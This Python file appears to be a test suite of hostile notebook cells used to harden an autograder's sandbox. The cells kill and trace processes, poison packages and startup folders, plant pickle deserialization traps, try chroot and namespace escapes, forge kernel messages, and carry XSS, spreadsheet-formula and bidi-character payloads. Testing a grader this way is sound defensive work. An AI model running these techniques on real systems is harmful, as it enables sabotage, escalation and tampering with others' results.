"""Cells that try to harm the grader, its readers, or whoever is marked next."""

from __future__ import annotations

from zoo import facts
from zoo.animal import CONFESSION, Animal, attack
from zoo.solved import Solved

__all__ = ["ATTACKS"]

_REACHED = "correct|killed"
_LURE = "company.cost_share"


def _unpickled(folder: object, solved: Solved) -> str:
    """Where a file appears if anybody unpickles what the cell leaves."""
    return f"{folder}/zoo_was_unpickled"


_TEXTS = {
    "injects_a_script": '<script>zoo()</script><img src=x onerror="zoo()"> {{ 7*7 }} </textarea>',
    "injects_a_formula": '=HYPERLINK("http://zoo.example","x")\n+1+cmd|"/C calc"!A0\n@SUM(1)',
    "injects_marks_of_direction": "a\u202egnp.exe\u2066\u0000\u0007\x1b[2Jb\ufeff",
}
_FORMULA = ('"=HYPERLINK(', ",=HYPERLINK(")

ATTACKS: tuple[Animal, ...] = (
    attack(
        "kills_its_parent",
        "import os\nos.kill(os.getppid(), 9)",
        after=_REACHED,
    ),
    attack(
        "signals_the_grader",
        """
        import os
        try:
            same = os.readlink("/proc/self/ns/pid") == known["space"]
        except OSError:
            same = False
        for number in known["ids"]:
            try:
                os.kill(number, 0)
                if same:
                    confess("signals reach", number)
            except OSError:
                pass
        """,
        facts=facts.processes,
    ),
    attack(
        "kills_all_it_can_reach",
        """
        import os
        # Where nothing is shut off this would end the instructor's session: look, do not shoot.
        if os.readlink("/proc/self/ns/pid") == known["space"]:
            os.kill(known["ids"][0], 0)
            confess("signals reach the grader")
        else:
            os.kill(-1, 9)
        """,
        facts=facts.processes,
        after="correct|error|killed",
    ),
    attack(
        "traces_other_processes",
        """
        import ctypes, glob, os
        trace = ctypes.CDLL(None, use_errno=True).ptrace
        for process in glob.glob("/proc/[0-9]*"):
            number = int(os.path.basename(process))
            if number == os.getpid():
                continue
            if trace(16, number, 0, 0) == 0:
                os.waitpid(number, 0x40000000)
                trace(17, number, 0, 0)
                confess("traced", number, open(f"{process}/cmdline").read())
            try:
                open(f"{process}/mem", "rb").close()
                confess("memory of", number, open(f"{process}/cmdline").read())
            except OSError:
                pass
        """,
    ),
    attack(
        "poisons_the_packages",
        """
        import os, sys, sysconfig
        import pandas
        places = {*known, sysconfig.get_path("purelib"), os.path.dirname(pandas.__file__),
                  os.path.dirname(ck.__file__), sys.prefix, os.path.dirname(sys.executable)}
        for place in places:
            path = os.path.join(place, "zoo_poison.pth")
            try:
                os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
                os.unlink(path)
                confess(path)
            except OSError:
                pass
        try:
            os.chmod(ck.__file__, 0o644)
            open(ck.__file__, "a").close()
            confess(ck.__file__)
        except OSError:
            pass
        """,
        facts=facts.sites,
    ),
    attack(
        "poisons_the_next_run",
        """
        import builtins, glob, os, sys, tempfile
        import numpy, pandas
        # A mark of this day, not one that a run without walls left lying about.
        mark = f"zoo_poison_{known['ids'][0]}"
        # Either run of this notebook comes after the other: what one left, the other finds.
        places = [os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm",
                  os.path.expanduser("~"), os.path.expanduser("~/.ipython"),
                  os.path.expanduser("~/.ipython/profile_default/startup"),
                  os.environ.get("MPLCONFIGDIR", "."), os.environ.get("IPYTHONDIR", "."),
                  os.environ.get("XDG_RUNTIME_DIR", "."), os.path.dirname(os.getcwd())]
        found = [p for p in places if os.path.exists(os.path.join(p, mark + ".py"))]
        found += [each.__name__ for each in (builtins, sys, numpy, pandas, ck)
                  if hasattr(each, mark)]
        found += ["environment"] if mark in os.environ else []
        if found:
            confess(found)
        for each in (builtins, sys, numpy, pandas, ck):
            setattr(each, mark, True)
        os.environ[mark] = "1"
        for place in places:
            try:
                path = os.path.abspath(os.path.join(place, mark + ".py"))
                with open(path, "w") as file:
                    # Where somebody's own start-up folder was reached it works once, and goes.
                    file.write(f"import builtins, os; builtins.{mark} = os.unlink({path!r})")
            except OSError:
                pass
        numpy.random.seed(1)
        pandas.DataFrame.sum = lambda *_, **__: 0
        """,
        facts=facts.processes,
    ),
    attack(
        "leaves_a_note_for_the_next_run",
        """
        import os, random, tempfile
        import numpy
        drawn = f"{numpy.random.rand()} {random.random()} {hash('zoo')}"
        note = f"zoo_note_{known['ids'][0]}.txt"
        for name in (note, os.path.join(tempfile.gettempdir(), note)):
            try:
                if os.path.exists(name):
                    confess("a note of another run", open(name).read() == drawn)
                open(name, "w").write(drawn)
            except OSError:
                pass
        """,
        facts=facts.processes,
    ),
    attack(
        "answers_the_grader_instead_of_the_kernel",
        """
        # A kernel that says it is done while it is not, and done again when it was not asked.
        kernel = get_ipython().kernel
        parent = kernel.get_parent("shell")
        for state in ("idle", "busy", "idle", "starting", "restarting", 7, None):
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": state}, parent)
        for kind in ("execute_reply", "shutdown_reply", "interrupt_request", "no_such_message"):
            kernel.session.send(kernel.iopub_socket, kind, {"status": "ok"}, parent)
        kernel.session.send(kernel.iopub_socket, "error", {"ename": 1, "evalue": None}, parent)
        kernel.session.send(kernel.iopub_socket, "stream", {}, parent)
        """,
        after="correct|error|killed",
    ),
    attack(
        "sends_bytes_that_are_no_message",
        """
        socket = get_ipython().kernel.iopub_socket
        for parts in ([b"x"], [b"", b""], [b"<IDS|MSG>", b"forged", b"{}", b"{}", b"{}", b"{}"]):
            try:
                socket.send_multipart(parts)
            except Exception as error:
                print(type(error).__name__)
        """,
        after="correct|error|killed",
    ),
    attack(
        "writes_pickles_into_every_pipe",
        """
        import io, os, pickle, stat, struct
        class Trap:
            def __reduce__(self):
                return io.open, (known, "w")
        trap = pickle.dumps(Trap())
        # As a pool of processes frames what it sends, and bare.
        framed = struct.pack("!i", len(trap)) + trap
        for number in range(3, 256):
            try:
                mode = os.fstat(number).st_mode
                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                    os.set_blocking(number, False)
                    for data in (framed, trap, b'{"state": "correct", "score": 100}\\n'):
                        os.write(number, data)
            except OSError:
                pass
        """,
        facts=_unpickled,
        after="correct|error|timeout|killed",
    ),
    attack(
        "climbs_up_from_files_it_was_given",
        """
        import os
        for number in range(3, 256):
            for up in range(12):
                for path in known["places"]:
                    parts = path.lstrip("/").split("/")
                    for start in range(len(parts)):
                        way = "../" * up + "/".join(parts[start:])
                        try:
                            os.close(os.open(way, os.O_RDONLY, dir_fd=number))
                            confess("by file", number, way)
                        except OSError:
                            pass
        """,
        facts=facts.key,
    ),
    attack(
        "makes_name_spaces_of_its_own",
        """
        import ctypes, glob, os
        c = ctypes.CDLL(None)
        # A child for each way: it has one thread, as the system asks.
        ways = [None, *glob.glob("/proc/[0-9]*/ns/mnt"), *glob.glob("/proc/[0-9]*/ns/net")]
        for way in ways:
            child = os.fork()
            if child == 0:
                reached = 0
                try:
                    if way is None:
                        c.unshare(0x10000000)
                        c.unshare(0x00020000)
                        c.mount(b"none", b"/", None, 0x8020, None)
                        for place in known["places"]:
                            c.umount2(os.path.dirname(place).encode(), 2)
                    else:
                        file = os.open(way, os.O_RDONLY)
                        c.setns(file, 0)
                    reached = any(os.path.exists(path) for path in known["places"])
                except OSError:
                    pass
                finally:
                    os._exit(7 if reached else 0)
            if os.waitpid(child, 0)[1] >> 8 == 7:
                confess("the key, through", way)
        """,
        facts=facts.key,
    ),
    attack(
        "leaves_its_root",
        """
        import os
        child = os.fork()
        if child == 0:
            reached = False
            try:
                os.makedirs("jail", exist_ok=True)
                file = os.open(".", os.O_RDONLY)
                os.chroot("jail")
                os.fchdir(file)
                for _ in range(40):
                    os.chdir("..")
                os.chroot(".")
                reached = any(os.path.exists(path) for path in known["places"])
            except OSError:
                pass
            finally:
                os._exit(7 if reached else 0)
        if os.waitpid(child, 0)[1] >> 8 == 7:
            confess("the key, from outside the root")
        """,
        facts=facts.key,
    ),
    attack(
        "leaves_pickles",
        f"""
        import base64, io, pickle
        class Trap:
            def __reduce__(self):
                return io.open, (known, "w")
        packed = pickle.dumps(Trap())
        for name in ("answers.pkl", "score.pickle", ".OTTER_LOG", "results.json", "case.pkl"):
            open(name, "wb").write(packed)
        text = base64.b64encode(packed).decode()
        display({{"application/x-pickle": text, "application/octet-stream": text}}, raw=True)
        ck.check("{_LURE}", Trap())
        """,
        facts=_unpickled,
        states={_LURE: "incorrect"},
    ),
    *(
        attack(
            name,
            f'ck.check("{CONFESSION}", {text!r})\nprint({text!r})\nraise ValueError({text!r})',
            states={CONFESSION: "review"},
            never_in_pages=("<script>zoo", "<img src=x"),
            never_in_tables=_FORMULA,
        )
        for name, text in _TEXTS.items()
    ),
)
